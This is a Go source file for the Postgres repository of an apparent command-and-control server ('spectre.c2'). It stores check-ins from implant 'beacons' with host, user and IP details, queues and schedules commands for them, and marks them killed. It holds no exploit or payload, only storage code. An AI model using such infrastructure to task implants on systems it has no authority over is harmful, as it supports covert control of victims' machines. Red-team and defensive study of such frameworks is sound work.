package pg

import (
	"context"
	"errors"
	"time"

	"gorm.io/driver/postgres"
	"gorm.io/gorm"
	"gorm.io/gorm/clause"
	"spectre.c2/internal/core/domain"
	"spectre.c2/internal/core/ports"
)

// Repository is the postgres implementation of every storage port, backed by
// one gorm connection pool. Queue atomicity (DrainDue, Transition) is done
// with row locks so multiple server replicas can share the database.
type Repository struct {
	db       *gorm.DB
	defaults Defaults
}

// Defaults applied to beacons created on first check-in.
type Defaults struct {
	SleepInterval int
	JitterPercent int
}

var _ ports.BeaconRepository = (*Repository)(nil)
var _ ports.JobRepository = (*Repository)(nil)
var _ ports.ScheduleRepository = (*Repository)(nil)
var _ ports.ActivityRepository = (*Repository)(nil)

func NewRepository(dsn string, defaults Defaults) (*Repository, error) {
	db, err := gorm.Open(postgres.Open(dsn), &gorm.Config{})
	if err != nil {
		return nil, err
	}

	if err := db.AutoMigrate(
		&domain.Beacon{},
		&domain.Job{},
		&domain.ScheduledJob{},
		&domain.ActivityEntry{},
	); err != nil {
		return nil, err
	}

	if defaults.SleepInterval <= 0 {
		defaults.SleepInterval = domain.DefaultSleepInterval
	}
	if defaults.JitterPercent < 0 {
		defaults.JitterPercent = domain.DefaultJitterPercent
	}
	return &Repository{db: db, defaults: defaults}, nil
}

// DB exposes the underlying pool for health checks.
func (r *Repository) DB() *gorm.DB {
	return r.db
}

// wrapErr maps storage errors into the domain taxonomy: missing rows become
// NotFoundError, everything else (connection loss, timeouts, serialization
// failures) is reported as transient so callers may retry.
func wrapErr(err error, kind, id string) error {
	if err == nil {
		return nil
	}
	if errors.Is(err, gorm.ErrRecordNotFound) {
		return domain.NewNotFound(kind, id)
	}
	return domain.NewTransient(kind, err)
}

// Beacon methods

func (r *Repository) UpsertOnCheckin(ctx context.Context, id string, attrs domain.CheckinAttrs, now time.Time) (*domain.Beacon, bool, error) {
	var beacon domain.Beacon
	created := false

	err := r.db.WithContext(ctx).Transaction(func(tx *gorm.DB) error {
		err := tx.Clauses(clause.Locking{Strength: "UPDATE"}).
			First(&beacon, "id = ?", id).Error
		switch {
		case errors.Is(err, gorm.ErrRecordNotFound):
			created = true
			beacon = domain.Beacon{
				ID:            id,
				SleepInterval: r.defaults.SleepInterval,
				JitterPercent: r.defaults.JitterPercent,
				CheckInCount:  1,
				LastSeen:      now,
				CreatedAt:     now,
				UpdatedAt:     now,
			}
			applyAttrs(&beacon, attrs)
			return tx.Create(&beacon).Error
		case err != nil:
			return err
		}

		applyAttrs(&beacon, attrs)
		beacon.LastSeen = now
		beacon.UpdatedAt = now
		beacon.CheckInCount++
		return tx.Save(&beacon).Error
	})
	if err != nil {
		return nil, false, domain.NewTransient("beacon", err)
	}
	return &beacon, created, nil
}

func applyAttrs(b *domain.Beacon, attrs domain.CheckinAttrs) {
	b.Hostname = attrs.Hostname
	b.InternalIP = attrs.InternalIP
	b.ExternalIP = attrs.ExternalIP
	b.Username = attrs.Username
	b.Domain = attrs.Domain
	b.OSInfo = attrs.OSInfo
	b.Architecture = attrs.Architecture
	b.ProcessName = attrs.ProcessName
	b.ProcessID = attrs.ProcessID
	b.Version = attrs.Version
}

func (r *Repository) GetBeacon(ctx context.Context, id string) (*domain.Beacon, error) {
	var beacon domain.Beacon
	if err := r.db.WithContext(ctx).First(&beacon, "id = ?", id).Error; err != nil {
		return nil, wrapErr(err, "beacon", id)
	}
	return &beacon, nil
}

func (r *Repository) ListBeacons(ctx context.Context) ([]*domain.Beacon, error) {
	var beacons []*domain.Beacon
	if err := r.db.WithContext(ctx).Order("last_seen desc").Find(&beacons).Error; err != nil {
		return nil, domain.NewTransient("beacon", err)
	}
	return beacons, nil
}

func (r *Repository) UpdateBeacon(ctx context.Context, beacon *domain.Beacon) error {
	beacon.UpdatedAt = time.Now()
	res := r.db.WithContext(ctx).Model(&domain.Beacon{}).Where("id = ?", beacon.ID).
		Updates(map[string]interface{}{
			"sleep_interval": beacon.SleepInterval,
			"jitter_percent": beacon.JitterPercent,
			"notes":          beacon.Notes,
			"updated_at":     beacon.UpdatedAt,
		})
	if res.Error != nil {
		return domain.NewTransient("beacon", res.Error)
	}
	if res.RowsAffected == 0 {
		return domain.NewNotFound("beacon", beacon.ID)
	}
	return nil
}

func (r *Repository) SetKilled(ctx context.Context, id string) error {
	res := r.db.WithContext(ctx).Model(&domain.Beacon{}).Where("id = ?", id).
		Updates(map[string]interface{}{
			"killed":     true,
			"updated_at": time.Now(),
		})
	if res.Error != nil {
		return domain.NewTransient("beacon", res.Error)
	}
	if res.RowsAffected == 0 {
		return domain.NewNotFound("beacon", id)
	}
	return nil
}

// Job methods

func (r *Repository) CreateJob(ctx context.Context, job *domain.Job) error {
	if err := r.db.WithContext(ctx).Create(job).Error; err != nil {
		return domain.NewTransient("job", err)
	}
	return nil
}

func (r *Repository) GetJob(ctx context.Context, id string) (*domain.Job, error) {
	var job domain.Job
	if err := r.db.WithContext(ctx).First(&job, "id = ?", id).Error; err != nil {
		return nil, wrapErr(err, "job", id)
	}
	return &job, nil
}

func (r *Repository) DrainDue(ctx context.Context, beaconID string, limit int, now time.Time) ([]*domain.Job, error) {
	var drained []*domain.Job

	err := r.db.WithContext(ctx).Transaction(func(tx *gorm.DB) error {
		q := tx.Clauses(clause.Locking{Strength: "UPDATE", Options: "SKIP LOCKED"}).
			Where("beacon_id = ? AND status = ?", beaconID, domain.JobStatusPending).
			Order("created_at asc, id asc")
		if limit > 0 {
			q = q.Limit(limit)
		}
		var jobs []*domain.Job
		if err := q.Find(&jobs).Error; err != nil {
			return err
		}
		for _, job := range jobs {
			job.Status = domain.JobStatusSent
			sentAt := now
			job.SentAt = &sentAt
			job.UpdatedAt = now
			if err := tx.Save(job).Error; err != nil {
				return err
			}
		}
		drained = jobs
		return nil
	})
	if err != nil {
		return nil, domain.NewTransient("job", err)
	}
	return drained, nil
}

func (r *Repository) Transition(ctx context.Context, id string, from []domain.JobStatus, to domain.JobStatus, stamp func(*domain.Job)) (*domain.Job, bool, error) {
	var job domain.Job
	applied := false

	err := r.db.WithContext(ctx).Transaction(func(tx *gorm.DB) error {
		if err := tx.Clauses(clause.Locking{Strength: "UPDATE"}).
			First(&job, "id = ?", id).Error; err != nil {
			return err
		}
		for _, status := range from {
			if job.Status == status {
				if stamp != nil {
					stamp(&job)
				}
				job.Status = to
				applied = true
				return tx.Save(&job).Error
			}
		}
		return nil
	})
	if err != nil {
		return nil, false, wrapErr(err, "job", id)
	}
	return &job, applied, nil
}

func (r *Repository) PendingCount(ctx context.Context, beaconID string) (int64, error) {
	var count int64
	err := r.db.WithContext(ctx).Model(&domain.Job{}).
		Where("beacon_id = ? AND status = ?", beaconID, domain.JobStatusPending).
		Count(&count).Error
	if err != nil {
		return 0, domain.NewTransient("job", err)
	}
	return count, nil
}

func (r *Repository) RecentJobs(ctx context.Context, beaconID string, limit int) ([]*domain.Job, error) {
	var jobs []*domain.Job
	err := r.db.WithContext(ctx).Where("beacon_id = ?", beaconID).
		Order("created_at desc").Limit(limit).Find(&jobs).Error
	if err != nil {
		return nil, domain.NewTransient("job", err)
	}
	return jobs, nil
}

func (r *Repository) ListJobs(ctx context.Context, offset, limit int) ([]*domain.Job, error) {
	var jobs []*domain.Job
	err := r.db.WithContext(ctx).Order("created_at desc").
		Offset(offset).Limit(limit).Find(&jobs).Error
	if err != nil {
		return nil, domain.NewTransient("job", err)
	}
	return jobs, nil
}

func (r *Repository) CountJobs(ctx context.Context) (int64, error) {
	var count int64
	if err := r.db.WithContext(ctx).Model(&domain.Job{}).Count(&count).Error; err != nil {
		return 0, domain.NewTransient("job", err)
	}
	return count, nil
}

func (r *Repository) CountJobsByStatus(ctx context.Context, status domain.JobStatus) (int64, error) {
	var count int64
	err := r.db.WithContext(ctx).Model(&domain.Job{}).
		Where("status = ?", status).Count(&count).Error
	if err != nil {
		return 0, domain.NewTransient("job", err)
	}
	return count, nil
}

// Schedule methods

func (r *Repository) CreateSchedule(ctx context.Context, s *domain.ScheduledJob) error {
	if err := r.db.WithContext(ctx).Create(s).Error; err != nil {
		return domain.NewTransient("schedule", err)
	}
	return nil
}

func (r *Repository) GetSchedule(ctx context.Context, id string) (*domain.ScheduledJob, error) {
	var s domain.ScheduledJob
	if err := r.db.WithContext(ctx).First(&s, "id = ?", id).Error; err != nil {
		return nil, wrapErr(err, "schedule", id)
	}
	return &s, nil
}

func (r *Repository) UpdateSchedule(ctx context.Context, s *domain.ScheduledJob) error {
	res := r.db.WithContext(ctx).Model(&domain.ScheduledJob{}).Where("id = ?", s.ID).
		Updates(map[string]interface{}{
			"name":        s.Name,
			"type":        s.Type,
			"command":     s.Command,
			"parameters":  s.Parameters,
			"interval":    s.Interval,
			"beacon_id":   s.BeaconID,
			"enabled":     s.Enabled,
			"run_count":   s.RunCount,
			"next_run_at": s.NextRunAt,
			"last_run_at": s.LastRunAt,
			"updated_at":  s.UpdatedAt,
		})
	if res.Error != nil {
		return domain.NewTransient("schedule", res.Error)
	}
	if res.RowsAffected == 0 {
		return domain.NewNotFound("schedule", s.ID)
	}
	return nil
}

func (r *Repository) DeleteSchedule(ctx context.Context, id string) error {
	res := r.db.WithContext(ctx).Delete(&domain.ScheduledJob{}, "id = ?", id)
	if res.Error != nil {
		return domain.NewTransient("schedule", res.Error)
	}
	if res.RowsAffected == 0 {
		return domain.NewNotFound("schedule", id)
	}
	return nil
}

func (r *Repository) ListSchedules(ctx context.Context) ([]*domain.ScheduledJob, error) {
	var schedules []*domain.ScheduledJob
	if err := r.db.WithContext(ctx).Order("created_at asc").Find(&schedules).Error; err != nil {
		return nil, domain.NewTransient("schedule", err)
	}
	return schedules, nil
}

func (r *Repository) ListDue(ctx context.Context, now time.Time) ([]*domain.ScheduledJob, error) {
	var schedules []*domain.ScheduledJob
	err := r.db.WithContext(ctx).
		Where("enabled = ? AND next_run_at <= ?", true, now).
		Order("next_run_at asc").Find(&schedules).Error
	if err != nil {
		return nil, domain.NewTransient("schedule", err)
	}
	return schedules, nil
}

// Activity methods

func (r *Repository) Append(ctx context.Context, e *domain.ActivityEntry) error {
	if err := r.db.WithContext(ctx).Create(e).Error; err != nil {
		return domain.NewTransient("activity", err)
	}
	return nil
}

func (r *Repository) RecentActivity(ctx context.Context, limit int) ([]*domain.ActivityEntry, error) {
	var entries []*domain.ActivityEntry
	err := r.db.WithContext(ctx).Order("id desc").Limit(limit).Find(&entries).Error
	if err != nil {
		return nil, domain.NewTransient("activity", err)
	}
	return entries, nil
}
